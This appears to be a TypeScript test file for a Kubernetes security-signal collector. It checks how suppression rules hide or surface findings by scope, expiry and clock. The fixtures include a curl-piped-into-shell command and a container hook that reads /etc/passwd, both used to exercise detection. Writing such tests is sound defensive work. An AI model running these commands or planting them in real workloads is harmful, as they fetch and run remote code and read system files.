import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { activityOf, auditEvent, cronJob, manifestOf, signalOf } from '../../../test/support/signals.ts';
import type { JsonObject } from '../../model/json.ts';
import { createCollector } from '../collector.ts';
import { confirmedBy } from './confirmed.ts';
import type { Suppression, SuppressionScope } from './suppression.ts';

const now = '2026-11-24T00:00:00Z';

const suppression = (scope: SuppressionScope, changes: Partial<Suppression> = {}): Suppression => ({
  id: 's1',
  owner: 'o',
  reason: 'r',
  expires: '2027-01-01',
  expiresAt: Date.parse('2027-01-02T00:00:00Z'),
  scope,
  ...changes,
});

function isHidden(scope: SuppressionScope, changes: JsonObject = {}): boolean {
  const target = createCollector({ now, suppressions: [suppression(scope)] });
  const activity = { ...activityOf(auditEvent(changes)), cluster: 'prod-west' };
  return target.take(signalOf(activity), activity) === undefined;
}

describe('a scope covers', () => {
  const impersonated = { impersonatedUser: { username: 'admin' } };
  const metadata = { level: 'Metadata', requestObject: undefined, responseObject: undefined };
  const [container] = cronJob.spec.jobTemplate.spec.template.spec.containers;
  const sidecar = { name: 'x', image: 'ghcr.io/elsewhere/x:1' };
  const withSidecar = structuredClone<JsonObject>(cronJob);
  Object.assign(withSidecar, {
    spec: { jobTemplate: { spec: { template: { spec: { containers: [container, sidecar] } } } } },
  });

  const withHook = structuredClone<JsonObject>(cronJob);
  const lifecycle = { postStart: { exec: { command: ['cat', '/etc/passwd'] } } };
  Object.assign(withHook, {
    spec: {
      schedule: '*/5 * * * *',
      jobTemplate: { spec: { template: { spec: { containers: [{ ...container, lifecycle }] } } } },
    },
  });
  const elsewhere = { ...cronJob, spec: { ...cronJob.spec, timeZone: 'Europe/Berlin' } };
  const inBerlin = { requestObject: elsewhere, responseObject: elsewhere };

  const table: readonly (readonly [SuppressionScope, boolean, JsonObject?])[] = [
    [{ rules: ['rule-download'] }, true],
    [{ rules: ['Downloads a script *'] }, true],
    [{ rules: ['rule-other', 'rule-download'] }, true],
    [{ rules: ['rule-other'] }, false],
    [{ cluster: ['prod-*'] }, true],
    [{ cluster: ['test-*'] }, false],
    [{ namespace: ['data'], kind: ['CronJob'], name: ['nightly-*'] }, true],
    [{ namespace: ['data'], kind: ['Job'], name: ['nightly-*'] }, false],
    [{ namespace: ['dat'] }, false],
    [{ user: ['dev@*'] }, true],
    [{ user: ['admin'] }, false],
    [{ user: ['dev@*'] }, false, impersonated],
    [{ user: ['admin'] }, false, impersonated],
    [{ user: ['dev@*', 'admin'] }, true, impersonated],
    [{ image: ['ghcr.io/ops-tools/*'] }, true],
    [{ image: ['ghcr.io/other/*'] }, false],
    [{ image: ['ghcr.io/ops-tools/*'] }, false, { requestObject: withSidecar, responseObject: withSidecar }],
    [{ image: ['*'], kind: ['CronJob'] }, false, metadata],
    [{ repository: ['ghcr.io/ops-tools/runner'] }, true],
    [{ repository: ['ghcr.io/ops-tools/run'] }, false],
    [
      { repository: ['ghcr.io/ops-tools/runner'] },
      false,
      { requestObject: withSidecar, responseObject: withSidecar },
    ],
    [{ command: ['sh -c "curl -s https://files.example/r | sh"'] }, true],
    [{ command: ['sh -c curl -s https://files.example/r | sh'] }, true],
    [{ command: ['sh -c "curl -s https://files.example/*"'] }, true],
    [{ command: ['sh -c "curl -s https://other.example/*"'] }, false],
    [{ command: ['sh *'] }, false, { requestObject: withHook, responseObject: withHook }],
    [{ command: ['sh *', 'cat /etc/passwd'] }, true, { requestObject: withHook, responseObject: withHook }],
    [{ command: [''] }, false],
    [{ command: ['sh *'], kind: ['CronJob'] }, false, metadata],
    [{ window: ['00:00-23:59'] }, true],
    [{ window: ['22:00-06:00'] }, false],
    [{ window: ['00:00-23:59 Europe/Berlin'] }, false],
    [{ window: ['00:00-23:59'] }, false, inBerlin],
    [{ window: ['00:00-23:59 Europe/Berlin'] }, true, inBerlin],
    [
      { image: ['*'], kind: ['CronJob'] },
      false,
      { verb: 'patch', requestObject: { spec: {} }, responseObject: undefined, level: 'Request' },
    ],
  ];
  for (const [scope, expected, changes] of table) {
    const what = changes === undefined ? '' : ` of ${Object.keys(changes).join(', ')} changed`;
    test(`${JSON.stringify(scope)} ${expected ? 'hides' : 'does not hide'} the finding${what}`, () => {
      assert.equal(isHidden(scope, changes), expected);
    });
  }

  test('no manifest by user, because nobody has done it yet', () => {
    const target = createCollector({ now, suppressions: [suppression({ user: ['*'] })] });
    const activity = manifestOf(cronJob);
    assert.notEqual(target.take(signalOf(activity), activity), undefined);
  });
});

test('counts what each hid; the first that covers a finding counts it', () => {
  const suppressions = [suppression({ kind: ['Pod'] }), suppression({ kind: ['CronJob'] }, { id: 's2' })];
  const target = createCollector({ now, suppressions });
  const activity = activityOf(auditEvent());
  target.take(signalOf(activity), activity);
  target.take(signalOf(activity), activity);
  assert.deepEqual(
    target.counts().suppressions.map(({ id, hidden, expired }) => [id, hidden, expired]),
    [
      ['s1', 0, false],
      ['s2', 1, false],
    ],
  );
  assert.equal(target.counts().hidden, 1);
  assert.equal(target.counts().duplicates, 1);
  assert.deepEqual([...target.finish()], []);
});

test('an expired one hides nothing and is listed as expired', () => {
  const expiresAt = Date.parse(now);
  for (const [moment, expired] of [
    [expiresAt, true],
    [expiresAt + 1, false],
  ] as const) {
    const target = createCollector({
      now,
      suppressions: [suppression({ kind: ['CronJob'] }, { expiresAt: moment })],
    });
    const activity = activityOf(auditEvent());
    assert.equal(target.take(signalOf(activity), activity) !== undefined, expired);
    assert.equal(target.counts().suppressions[0]?.expired, expired);
  }
});

test('a clock that goes on ends it while it is in use', () => {
  let time = now;
  const target = createCollector({
    now: () => time,
    suppressions: [suppression({ kind: ['CronJob'] }, { expiresAt: Date.parse('2026-11-25T00:00:00Z') })],
  });
  const [first, second] = [activityOf(auditEvent()), activityOf(auditEvent({ auditID: 'another' }))];
  assert.equal(target.take(signalOf(first), first), undefined);
  time = '2026-11-25T00:00:00Z';
  assert.notEqual(target.take(signalOf(second), second), undefined);
});

test('what is hidden is told, with the suppression that hides it', () => {
  const told: string[] = [];
  const target = createCollector({
    now,
    suppressions: [suppression({ kind: ['CronJob'] })],
    onHidden: ({ title }, { id }) => told.push(`${id}: ${title}`),
  });
  const activity = activityOf(auditEvent());
  target.take(signalOf(activity), activity);
  assert.deepEqual(told, ['s1: Downloads a script and pipes it into a shell']);
});

test('only a suppression that leaves nothing open confirms a change as usual', () => {
  const exact: SuppressionScope = {
    namespace: ['data'],
    kind: ['CronJob'],
    name: ['nightly-report'],
    user: ['dev@corp.example'],
    repository: ['ghcr.io/ops-tools/runner'],
    command: ['sh -c curl -s https://files.example/r | sh'],
  };
  const activity = activityOf(auditEvent());
  const confirms = (scope: SuppressionScope): boolean =>
    confirmedBy([suppression(scope)], () => now)(signalOf(activity), activity);
  assert.equal(confirms(exact), true);
  assert.equal(confirms({ ...exact, name: ['nightly-*'] }), false);
  for (const field of ['namespace', 'kind', 'name', 'user', 'repository', 'command'] as const) {
    const { [field]: _, ...open } = exact;
    assert.equal(confirms(open), false, field);
  }
  assert.equal(confirms({ ...exact, rules: ['another'] }), false);
});

test('if the time of now cannot be read, nothing is hidden', () => {
  const target = createCollector({ now: 'soon', suppressions: [suppression({ kind: ['CronJob'] })] });
  const activity = activityOf(auditEvent());
  assert.notEqual(target.take(signalOf(activity), activity), undefined);
});
